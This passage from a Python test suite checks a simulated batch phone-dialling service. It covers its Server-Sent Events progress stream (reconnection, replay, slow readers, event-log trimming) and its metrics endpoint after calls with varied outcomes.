        server = self.start_server()
        auth = make_workspace(server)
        body = self.batches_page(server, auth)
        self.assertEqual(body, {"batches": [], "pagination": {
            "page": 1, "limit": 20, "total": 0, "totalPages": 0, "hasNext": False,
            "hasPrev": False}})


class EventsTest(DispatchTestCase):
    """B6: live events of a batch over Server-Sent Events."""

    CALLS = 24

    def start(self):
        """A server and a workspace that dials 10 calls a second (a burst of 10, then one every
        100 ms), so a batch of CALLS takes about 1.5 s: long enough to disconnect mid-stream."""
        server = self.start_server("--sim-speed", "1000")
        auth, agent = self.setup_workspace(server, calls_per_second=10)
        return server, auth, agent

    def contacts(self):
        return csv_file(["phone_number", "first_name"],
                        [(n, f"E{i}") for i, n in enumerate(answered_numbers(self.CALLS))])

    def open(self, server, auth, batch, headers=None):
        stream = EventStream(server, f"{BATCHES}/{batch}/events", auth=auth, headers=headers,
                             timeout=15)
        self.addCleanup(stream.close)
        self.assertEqual(stream.status, 200, stream.body)
        self.assertTrue(stream.headers.get("Content-Type", "").startswith("text/event-stream"),
                        stream.headers)
        return stream

    def check_ids(self, events):
        ids = [int(ev.id) for ev in events]
        back = [(events[i - 1].event, events[i - 1].id, ev.event, ev.id)
                for i, ev in enumerate(events) if i and int(ev.id) < int(events[i - 1].id)]
        self.assertEqual(back, [], "event ids go backwards")
        call_ids = [int(ev.id) for ev in events if ev.event == "call"]
        self.assertEqual(len(call_ids), len(set(call_ids)), f"call event ids repeat: {call_ids}")

    def test_progress_calls_and_done(self):
        server, auth, agent = self.start()
        # Dialling starts a moment after the upload, so the stream is open before any call ends.
        batch = self.upload(server, auth, agent, self.contacts(), scheduledAt=iso_in(1.5))
        events = self.open(server, auth, batch).events()
        kinds = [ev.event for ev in events]
        self.assertEqual(kinds[0], "progress", kinds)
        self.assertEqual(kinds[-1], "done", kinds)
        self.assertEqual(set(kinds), {"progress", "call", "done"}, kinds)
        self.assertEqual(events[-1].data, {"batchId": batch})
        calls = [ev for ev in events if ev.event == "call"]
        self.assertEqual(sorted(ev.data["jobId"] for ev in calls),
                         sorted(f"call_{r}" for r in range(1, self.CALLS + 1)))
        for ev in calls:
            self.assertEqual((ev.data["status"], ev.data["outcome"]), ("completed", "answered"),
                             ev)
        self.check_ids(events)
        self.assertEqual(int(events[-1].id), max(int(ev.id) for ev in calls))
        a2 = self.batch(server, auth, batch)
        self.assertEqual((a2["status"], a2["progress"]["completed"]), ("completed", self.CALLS))

    def test_reconnect_with_last_event_id_misses_and_repeats_nothing(self):
        server, auth, agent = self.start()
        batch = self.upload(server, auth, agent, self.contacts(), scheduledAt=iso_in(1.5))
        first = []
        with self.open(server, auth, batch) as stream:
            while sum(ev.event == "call" for ev in first) < 5:
                ev = stream.next_event()
                self.assertIsNotNone(ev, f"stream ended early after {first}")
                first.append(ev)
        last_id = int(first[-1].id)
        # More calls end while the client is away.
        time.sleep(0.3)
        a2 = self.batch(server, auth, batch)
        self.assertFalse(a2["isComplete"], "the batch ended before the reconnect; nothing to test")
        second = self.open(server, auth, batch, headers={"Last-Event-ID": str(last_id)}).events()
        self.assertEqual(second[-1].event, "done", [ev.event for ev in second])
        self.check_ids(second)
        before = [ev.data["jobId"] for ev in first if ev.event == "call"]
        after = [ev.data["jobId"] for ev in second if ev.event == "call"]
        self.assertTrue(all(int(ev.id) > last_id for ev in second if ev.event == "call"),
                        [(ev.event, ev.id) for ev in second])
        self.assertEqual(len(after), len(set(after)), f"repeated after the reconnect: {after}")
        self.assertEqual(set(before) & set(after), set(), "a call was sent twice")
        self.assertEqual(sorted(before + after),
                         sorted(f"call_{r}" for r in range(1, self.CALLS + 1)),
                         "calls were missed across the reconnect")

    def check_stream(self, events, expected_calls, name, progress_first=True):
        """A whole stream: progress first (for a watcher that does not replay), done last, ids
        in order, each expected call once."""
        kinds = [ev.event for ev in events]
        self.assertTrue(kinds and kinds[-1] == "done" and "progress" in kinds,
                        f"{name}: {kinds[:5]} ... {kinds[-5:]}")
        if progress_first:
            self.assertEqual(kinds[0], "progress", name)
        self.check_ids(events)
        calls = [ev.data["jobId"] for ev in events if ev.event == "call"]
        self.assertEqual(len(calls), len(set(calls)), f"{name}: a call was sent twice")
        self.assertEqual(set(calls), set(expected_calls), f"{name}: calls missing or extra")

    def watch_fast_and_slow(self, flags, cps, count, fast_watchers):
        """A server started with flags dials count calls at cps, starting 1.5 s after the
        upload. Opens fast_watchers streams read as events come and one with a 4 KiB receive
        buffer that reads nothing until the batch is over; checks that each got calls 1..count
        once, in order. Returns (server, auth, batch, expected call ids)."""
        server = self.start_server("--sim-speed", "1000", *flags)
        auth, agent = self.setup_workspace(server, calls_per_second=cps)
        data = csv_file(["phone_number", "first_name"],
                        [(n, f"W{i}") for i, n in enumerate(answered_numbers(count))])
        batch = self.upload(server, auth, agent, data, scheduledAt=iso_in(1.5))
        path = f"{BATCHES}/{batch}/events"
        fast = [self.open(server, auth, batch) for _ in range(fast_watchers)]
        slow = EventStream(server, path, auth=auth, timeout=30, rcvbuf=4096)
        self.addCleanup(slow.close)
        self.assertEqual(slow.status, 200, slow.body)
        results = {}

        def read(i, stream):
            results[i] = stream.events()

        threads = [threading.Thread(target=read, args=(i, st)) for i, st in enumerate(fast)]
        for t in threads:
            t.start()
        # The slow reader reads nothing until the batch is over.
        self.wait_batch(server, auth, batch)
        slow_events = slow.events()
        for t in threads:
            t.join(30)
        expected = [f"call_{r}" for r in range(1, count + 1)]
        for i in range(len(fast)):
            self.check_stream(results.get(i, []), expected, f"watcher {i}")
        self.check_stream(slow_events, expected, "slow reader")
        return server, auth, batch, expected

    def test_many_watchers_and_a_slow_reader_each_get_every_call_once(self):
        """Watchers share one rendering of each event; a reader that stops reading falls behind
        and is caught up later, in larger writes, without losing or repeating anything."""
        self.watch_fast_and_slow([], cps=300, count=600, fast_watchers=30)

    def test_a_small_event_log_drops_old_events_and_nothing_is_lost(self):
        """With 2 KiB of events kept per batch (32 KiB at most while a watcher needs them), the
        log is trimmed and halved many times over 1,500 calls: a reader that reads nothing until
        the end falls out of it and is caught up from the store, watchers that keep up are served
        from it, and a reconnect from the start after the end replays everything once."""
        # 1,500 calls, about 350 KB of events: more than the slow reader's socket buffers (64 KiB
        # on the server's side, doubled by the kernel, and 4 KiB on its own) and the 32 KiB log.
        server, auth, batch, expected = self.watch_fast_and_slow(
            ["--events-log-kb", "2"], cps=500, count=1500, fast_watchers=5)
        replay = self.open(server, auth, batch, headers={"Last-Event-ID": "0"}).events()
        self.check_stream(replay, expected, "replay after the end", progress_first=False)

    def test_watchers_joining_mid_batch_replay_then_follow(self):
        """Joining while the batch dials: with Last-Event-ID 0, every call once (the ones that
        ended before, then the live ones); without it, exactly the calls after the first
        progress event's id."""
        server = self.start_server("--sim-speed", "1000")
        auth, agent = self.setup_workspace(server, calls_per_second=100)
        count = 300
        data = csv_file(["phone_number", "first_name"],
                        [(n, f"J{i}") for i, n in enumerate(answered_numbers(count))])
        batch = self.upload(server, auth, agent, data)
        self.wait_batch(server, auth, batch,
                        until=lambda a2: a2["progress"]["completed"] >= 60)
        replaying = [self.open(server, auth, batch, headers={"Last-Event-ID": "0"})
                     for _ in range(10)]
        live = [self.open(server, auth, batch) for _ in range(5)]
        results = {}

        def read(i, stream):
            results[i] = stream.events()

        streams = replaying + live
        threads = [threading.Thread(target=read, args=(i, st)) for i, st in enumerate(streams)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(30)
        expected = [f"call_{r}" for r in range(1, count + 1)]
        for i in range(len(replaying)):
            self.check_stream(results.get(i, []), expected, f"replaying watcher {i}",
                              progress_first=False)
        every = {ev.data["jobId"]: int(ev.id) for ev in results[0] if ev.event == "call"}
        for i in range(len(replaying), len(streams)):
            events = results.get(i, [])
            self.assertTrue(events and events[0].event == "progress", f"live watcher {i}")
            start = int(events[0].id)
            self.assertLess(start, count, "the batch ended before the watcher joined")
            self.check_stream(events, [job for job, seq in every.items() if seq > start],
                              f"live watcher {i}")

    def test_finished_batch_answers_progress_and_done_at_once(self):
        server, auth, agent = self.start()
        batch = self.upload(server, auth, agent, self.contacts())
        self.wait_batch(server, auth, batch)
        started = time.monotonic()
        events = self.open(server, auth, batch).events()
        self.assertLess(time.monotonic() - started, 2.0)
        self.assertEqual([ev.event for ev in events], ["progress", "done"])
        self.assertTrue(events[0].data["isComplete"], events[0].data)
        self.assertEqual(events[1].data, {"batchId": batch})
        # An id past every call (2^32 + 1: too large for the server's counters) means "after all of
        # them": nothing is replayed.
        after_all = self.open(server, auth, batch,
                              headers={"Last-Event-ID": "4294967297"}).events()
        self.assertEqual([ev.event for ev in after_all], ["progress", "done"])
        # Ids are the real position (every call of the batch), not the number the client sent.
        final = events[0].id
        self.assertEqual(int(final), self.CALLS)
        self.assertEqual([ev.id for ev in after_all], [final, final])
        beyond = self.open(server, auth, batch, headers={"Last-Event-ID": "999"}).events()
        self.assertEqual([(ev.event, ev.id) for ev in beyond],
                         [("progress", final), ("done", final)])
        # Replaying from the start after the end gives every call once, then done.
        replay = self.open(server, auth, batch, headers={"Last-Event-ID": "0"}).events()
        calls = [ev.data["jobId"] for ev in replay if ev.event == "call"]
        self.assertEqual(sorted(calls), sorted(f"call_{r}" for r in range(1, self.CALLS + 1)))
        self.assertEqual(replay[-1].event, "done")
        self.check_ids(replay)

    def test_progress_event_is_the_a3_object(self):
        """API.md B6: progress carries the A3 object (flat counters), as GET .../status."""
        server, auth, agent = self.start()
        batch = self.upload(server, auth, agent, self.contacts())
        self.wait_batch(server, auth, batch)
        progress = self.open(server, auth, batch).events()[0]
        a3 = request(server, "GET", f"{BATCHES}/{batch}/status", auth=auth).body
        self.assertEqual(progress.event, "progress")
        self.assertEqual(progress.data, a3)

    def test_unknown_batch_is_404(self):
        server, auth, _ = self.start()
        stream = EventStream(server, f"{BATCHES}/batch_00000000000000000000000000/events",
                             auth=auth)
        self.addCleanup(stream.close)
        self.assertEqual(stream.status, 404, stream.body)
        self.assertEqual(stream.body["error"], "not_found", stream.body)


class DispatchMetricsTest(DispatchTestCase):
    """B10: /metrics after dialling every outcome class."""

    def test_metrics_after_dialling(self):
        server = self.start_server("--sim-speed", "1000", "--busy-attempts", "2",
                                   "--busy-retry-ms", "20", "--provider-retries", "1",
                                   "--provider-backoff-ms", "10", "--provider-backoff-max-ms",
                                   "20", "--ring-timeout-s", "30")
        # Five calls a second: dialling has to wait for tokens.
        auth, agent = self.setup_workspace(server, calls_per_second=5)
        numbers = [number(100 * i + last) for i, last in
                   enumerate([10, 0, 1, 2, 3, 4, 5, 11, 12, 13], start=1)]
        batch = self.upload(server, auth, agent,
                            csv_file(["phone_number"], [[n] for n in numbers]))
        a2 = self.wait_batch(server, auth, batch, timeout=30)
        self.assertEqual(a2["progress"]["completed"], 4, a2)

        metrics = scrape(server)
        for name, kind in (("batchcalld_dials_total", "counter"),
                           ("batchcalld_call_outcomes_total", "counter"),
                           ("batchcalld_calls_in_progress", "gauge"),
                           ("batchcalld_calls_waiting", "gauge"),
                           ("batchcalld_provider_request_duration_seconds", "histogram"),
                           ("batchcalld_store_commit_duration_seconds", "histogram"),
                           ("batchcalld_token_waits_total", "counter")):
            self.assertIn(name, metrics.families, name)
            self.assertEqual(metrics.families[name].type, kind, name)
        # Attempts: busy twice, every other class once; the 503 number is tried twice
        # (provider_retries 1) without an attempt.
        attempts = a2["attempts"]
        self.assertEqual(attempts, 4 + 2 + 4, a2)
        dials = metrics.value("batchcalld_dials_total")
        self.assertEqual(dials, attempts + 2)
        self.assertEqual(metrics.value("batchcalld_provider_request_duration_seconds_count"),
                         dials)
        outcomes = {s.labels["outcome"]: s.value
                    for s in metrics.samples("batchcalld_call_outcomes_total")}
        for outcome, count in (("answered", 4), ("busy", 2), ("no_answer", 1),
                               ("unreachable", 1), ("carrier_blocked", 1), ("voicemail", 1)):
            self.assertEqual(outcomes.get(outcome), count, (outcome, outcomes))
        self.assertEqual(metrics.value("batchcalld_calls_in_progress"), 0)
        self.assertEqual(metrics.value("batchcalld_calls_waiting"), 0)
        self.assertGreater(metrics.value("batchcalld_token_waits_total"), 0)
        self.assertGreater(metrics.value("batchcalld_store_commit_duration_seconds_count"), 0)
        self.assertEqual(metrics.value("batchcalld_store_commit_duration_seconds_count"),
                         metrics.value("batchcalld_store_commits_total"))
